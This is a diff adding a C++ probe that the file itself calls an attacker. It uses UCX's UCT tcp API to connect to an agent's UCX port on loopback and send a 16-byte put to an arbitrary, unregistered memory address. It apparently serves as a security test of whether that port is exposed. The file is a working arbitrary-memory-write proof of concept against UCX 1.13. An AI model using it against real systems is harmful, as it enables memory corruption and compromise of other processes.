@@ -1,0 +1,167 @@
+// An attacker that speaks UCT, not UCP: it connects a stock UCX tcp endpoint (UCT's
+// public API) to an agent's UCX TCP port on loopback and sends one put of 16 bytes to
+// ADDRESS, an address in the agent that the agent never registered or named. UCX
+// 1.13's tcp transport serves a put request by copying its payload to that address.
+//
+//   uct_put_probe PORT ADDRESS
+//
+// Prints one line and exits 0 when the put completed from its side (the agent's UCX
+// took the connection), 3 when the connection never came up or failed (refused), 2 on
+// a setup failure here. Whether the bytes landed is for the caller to read.
+#include <arpa/inet.h>
+#include <errno.h>
+#include <unistd.h>
+
+#include <cstdint>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <string>
+
+#include "ucs/async/async_fwd.h"
+#include "uct/api/uct.h"
+
+namespace {
+
+// One line for the caller, out before anything else can end the process (a sanitizer's
+// report at exit would leave a buffered line unwritten).
+void Say(const std::string& line) {
+  std::fputs(line.c_str(), stdout);
+  std::fflush(stdout);
+}
+
+int Fail(const char* what, ucs_status_t status) {
+  Say(std::string("setup\t") + what + ": " + ucs_status_string(status) + "\n");
+  return 2;
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  if (argc < 3) {  // (a third, empty argument from run_as is ignored)
+    Say("usage\tuct_put_probe PORT ADDRESS\n");
+    return 2;
+  }
+  // The caller reads one line: no UCX errors in it. UCX reads its log level when the
+  // library loads, so the probe runs itself again with it set.
+  if (const char* level = std::getenv("UCX_LOG_LEVEL"); level == nullptr || std::string(level) != "fatal") {
+    setenv("UCX_LOG_LEVEL", "fatal", 1);
+    execv("/proc/self/exe", argv);
+    Say(std::string("setup\texecv: ") + std::strerror(errno) + "\n");
+    return 2;
+  }
+  const int port = std::atoi(argv[1]);
+  const uint64_t address = std::strtoull(argv[2], nullptr, 0);
+  // Loopback over tcp, and UCT's put switched on on this side (its own choice).
+  setenv("UCX_NET_DEVICES", "lo", 1);
+  setenv("UCX_TCP_PUT_ENABLE", "y", 1);
+  setenv("UCX_TCP_MAX_CONN_RETRIES", "2", 1);
+
+  uct_component_h* components = nullptr;
+  unsigned count = 0;
+  ucs_status_t status = uct_query_components(&components, &count);
+  if (status != UCS_OK) return Fail("uct_query_components", status);
+  uct_component_h tcp = nullptr;
+  for (unsigned i = 0; i < count; ++i) {
+    uct_component_attr_t attr{};
+    attr.field_mask = UCT_COMPONENT_ATTR_FIELD_NAME;
+    if (uct_component_query(components[i], &attr) == UCS_OK && std::string(attr.name) == "tcp") {
+      tcp = components[i];
+    }
+  }
+  if (tcp == nullptr) return Fail("no tcp component", UCS_ERR_NO_DEVICE);
+  uct_md_config_t* md_config = nullptr;
+  if ((status = uct_md_config_read(tcp, nullptr, nullptr, &md_config)) != UCS_OK) {
+    return Fail("uct_md_config_read", status);
+  }
+  uct_md_h md = nullptr;
+  if ((status = uct_md_open(tcp, "tcp", md_config, &md)) != UCS_OK) {
+    return Fail("uct_md_open", status);
+  }
+  ucs_async_context_t* async = nullptr;
+  if ((status = ucs_async_context_create(UCS_ASYNC_MODE_THREAD_SPINLOCK, &async)) != UCS_OK) {
+    return Fail("ucs_async_context_create", status);
+  }
+  uct_worker_h worker = nullptr;
+  if ((status = uct_worker_create(async, UCS_THREAD_MODE_SINGLE, &worker)) != UCS_OK) {
+    return Fail("uct_worker_create", status);
+  }
+  uct_iface_config_t* iface_config = nullptr;
+  if ((status = uct_md_iface_config_read(md, "tcp", nullptr, nullptr, &iface_config)) != UCS_OK) {
+    return Fail("uct_md_iface_config_read", status);
+  }
+  uct_iface_params_t params{};
+  params.field_mask = UCT_IFACE_PARAM_FIELD_OPEN_MODE | UCT_IFACE_PARAM_FIELD_DEVICE;
+  params.open_mode = UCT_IFACE_OPEN_MODE_DEVICE;
+  params.mode.device.tl_name = "tcp";
+  params.mode.device.dev_name = "lo";
+  uct_iface_h iface = nullptr;
+  if ((status = uct_iface_open(md, worker, &params, iface_config, &iface)) != UCS_OK) {
+    return Fail("uct_iface_open", status);
+  }
+  uct_iface_progress_enable(iface, UCT_PROGRESS_SEND | UCT_PROGRESS_RECV);
+  uct_iface_attr_t attr{};
+  if ((status = uct_iface_query(iface, &attr)) != UCS_OK) return Fail("uct_iface_query", status);
+  if ((attr.cap.flags & UCT_IFACE_FLAG_PUT_ZCOPY) == 0 || attr.iface_addr_len < 2 ||
+      attr.device_addr_len > 64 || attr.iface_addr_len > 64) {
+    return Fail("tcp iface without put or with unexpected addresses", UCS_ERR_UNSUPPORTED);
+  }
+  // Both ends are on lo: the agent's device address is this one's, and a tcp iface's
+  // address is its listening port (network order).
+  unsigned char device[64] = {};
+  unsigned char remote[64] = {};
+  uct_iface_get_device_address(iface, reinterpret_cast<uct_device_addr_t*>(device));
+  uct_iface_get_address(iface, reinterpret_cast<uct_iface_addr_t*>(remote));
+  const uint16_t network_port = htons(static_cast<uint16_t>(port));
+  std::memcpy(remote, &network_port, sizeof network_port);
+  uct_ep_params_t ep_params{};
+  ep_params.field_mask =
+      UCT_EP_PARAM_FIELD_IFACE | UCT_EP_PARAM_FIELD_DEV_ADDR | UCT_EP_PARAM_FIELD_IFACE_ADDR;
+  ep_params.iface = iface;
+  ep_params.dev_addr = reinterpret_cast<uct_device_addr_t*>(device);
+  ep_params.iface_addr = reinterpret_cast<uct_iface_addr_t*>(remote);
+  uct_ep_h ep = nullptr;
+  if ((status = uct_ep_create(&ep_params, &ep)) != UCS_OK) return Fail("uct_ep_create", status);
+
+  static char payload[16] = "WRITTEN-BY-UCT!";
+  uct_iov_t iov{};
+  iov.buffer = payload;
+  iov.length = sizeof payload;
+  iov.memh = UCT_MEM_HANDLE_NULL;
+  iov.count = 1;
+  // Until the connection is up (no resources meanwhile), for at most about 3 s.
+  int tries = 0;
+  do {
+    status = uct_ep_put_zcopy(ep, &iov, 1, address, 0, nullptr);
+    if (status == UCS_ERR_NO_RESOURCE) {
+      uct_worker_progress(worker);
+      usleep(200);
+    }
+  } while (status == UCS_ERR_NO_RESOURCE && ++tries < 15000);
+  int code = 0;
+  if (status != UCS_OK && status != UCS_INPROGRESS) {
+    Say("refused\tput: " + std::string(ucs_status_string(status)) + " after " +
+        std::to_string(tries) + " tries\n");
+    code = 3;
+  }
+  // Let the put go out and be answered.
+  for (int i = 0; code == 0 && i < 2000; ++i) {
+    uct_worker_progress(worker);
+    usleep(200);
+  }
+  if (code == 0) {
+    char line[160];
+    std::snprintf(line, sizeof line, "sent\tput of 16 bytes to %#llx: %s after %d tries\n",
+                  static_cast<unsigned long long>(address), ucs_status_string(status), tries);
+    Say(line);
+  }
+  uct_ep_destroy(ep);
+  uct_iface_close(iface);
+  uct_config_release(iface_config);
+  uct_worker_destroy(worker);
+  ucs_async_context_destroy(async);
+  uct_md_close(md);
+  uct_config_release(md_config);
+  uct_release_component_list(components);
+  return code;
+}
